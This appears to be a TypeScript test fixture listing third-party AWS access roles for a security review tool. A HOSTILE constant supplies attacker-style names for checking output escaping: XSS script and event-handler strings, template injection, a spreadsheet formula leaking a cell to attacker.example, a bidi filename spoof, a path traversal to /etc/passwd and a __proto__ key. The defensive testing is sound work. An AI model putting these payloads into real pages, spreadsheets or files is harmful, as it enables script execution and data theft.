import type { ThirdPartyRef } from '../../src/model/party.ts';
import type { ThirdPartySummary } from '../../src/model/third-party-summary.ts';

/** Names that an attacker might give to things; each must come out inert everywhere. */
export const HOSTILE = {
  markup: '<script>document.title="owned"</script>',
  attribute: '" onmouseover="alert(1)" x="',
  image: '<img src=x onerror=alert(2)>',
  template: '{{constructor.constructor "alert(3)"}}',
  formula: '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
  escape: '\u001b[31mred\u001b[0m\u0007',
  bidi: 'admin\u202Egpj.exe\u2066',
  zeroWidth: 'pay\u200Broll\u00AD-role',
  endOfStyle: '</style></title><svg/onload=alert(4)>',
  path: '../../../../etc/passwd',
  proto: '__proto__',
} as const;

type Register = Pick<
  ThirdPartySummary,
  'owner' | 'justification' | 'approvedBy' | 'contractEnds' | 'lastReviewed'
>;

const UNREGISTERED: Register = {
  owner: null,
  justification: null,
  approvedBy: null,
  contractEnds: null,
  lastReviewed: null,
};

export interface FixtureParty {
  ref: ThirdPartyRef;
  register: Register;
  /** As trust policies of the fixture name it. */
  principal: string;
  guards: string[];
  roleName: string;
  /** Indexes of the accounts in which it has a role. */
  accounts: number[];
}

function registered(
  name: string,
  accountId: string,
  register: Register,
  rest: Pick<FixtureParty, 'guards' | 'roleName' | 'accounts'>,
): FixtureParty {
  return {
    ref: { name, kind: 'registered', accountId },
    register,
    principal: `arn:aws:iam::${accountId}:role/${rest.roleName}-caller`,
    ...rest,
  };
}

function other(
  ref: ThirdPartyRef,
  principal: string,
  rest: Pick<FixtureParty, 'guards' | 'roleName' | 'accounts'>,
): FixtureParty {
  return { ref, register: UNREGISTERED, principal, ...rest };
}

export const PARTIES: FixtureParty[] = [
  registered(
    'Northwind Observability',
    '811122223333',
    {
      owner: 'Platform engineering, Ines Okafor',
      justification:
        'Metrics and log collection for all production workloads under master agreement 2024-118.',
      approvedBy: 'Security review board',
      contractEnds: '2027-06-30',
      lastReviewed: '2026-08-14',
    },
    {
      guards: ['external ID'],
      roleName: 'NorthwindReadOnly',
      accounts: [2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16],
    },
  ),
  registered(
    'Ledgerline Billing',
    '822233334444',
    {
      owner: 'Finance systems, Tomasz Berg',
      justification: 'Cost allocation and invoice matching.',
      approvedBy: 'M. Castellanos',
      contractEnds: '2026-09-30',
      lastReviewed: '2025-07-02',
    },
    { guards: ['external ID', 'source IP'], roleName: 'LedgerlineCostReader', accounts: [0, 17, 18] },
  ),
  registered(
    'Halyard Backup',
    '833344445555',
    {
      owner: 'Storage, Amélie Rousseau',
      justification: 'Off-site copies of databases and object storage.',
      approvedBy: 'Security review board',
      contractEnds: '2028-01-31',
      lastReviewed: '2026-10-20',
    },
    { guards: ['external ID', 'source VPC'], roleName: 'HalyardBackup', accounts: [4, 5, 6, 7] },
  ),
  registered(
    'Corvid Penetration Testing',
    '844455556666',
    {
      owner: 'Red team, Priya Nair',
      justification: 'Yearly assessment.',
      approvedBy: 'CISO',
      contractEnds: '2026-12-15',
      lastReviewed: '2026-11-01',
    },
    { guards: ['external ID', 'MFA', 'time limit'], roleName: 'CorvidAssessor', accounts: [19] },
  ),
  other(
    { name: 'Skylark Posture', kind: 'known-vendor', accountId: '855566667777' },
    'arn:aws:iam::855566667777:root',
    { guards: ['external ID'], roleName: 'skylark-posture-scan', accounts: [3, 9, 12, 20] },
  ),
  other(
    { name: 'Meridian CI', kind: 'known-vendor', accountId: '866677778888' },
    'arn:aws:iam::866677778888:root',
    { guards: [], roleName: 'meridian-deploy', accounts: [10, 11] },
  ),
  other({ name: '877788889999', kind: 'unknown', accountId: '877788889999' }, '877788889999', {
    guards: [],
    roleName: HOSTILE.bidi,
    accounts: [14],
  }),
  other(
    { name: '888899990000', kind: 'unknown', accountId: '888899990000' },
    'arn:aws:iam::888899990000:role/etl',
    {
      guards: ['organization'],
      roleName: 'legacy-data-exchange-with-a-name-that-goes-on-for-quite-a-while-since-2019',
      accounts: [15, 16],
    },
  ),
  other({ name: HOSTILE.markup, kind: 'unknown', accountId: '899900001111' }, HOSTILE.image, {
    guards: [],
    roleName: HOSTILE.attribute,
    accounts: [21],
  }),
  other({ name: 'Anyone', kind: 'public' }, '*', { guards: [], roleName: 'public-upload', accounts: [13] }),
  other({ name: 'o-9zq4partner', kind: 'organization' }, '*', {
    guards: ['organization'],
    roleName: 'partner-org-reader',
    accounts: [18, 20],
  }),
  other(
    { name: 'token.actions.githubusercontent.com', kind: 'identity-provider' },
    'arn:aws:iam::210000000009:oidc-provider/token.actions.githubusercontent.com',
    { guards: ['audience'], roleName: 'github-deploy', accounts: [8, 9] },
  ),
];
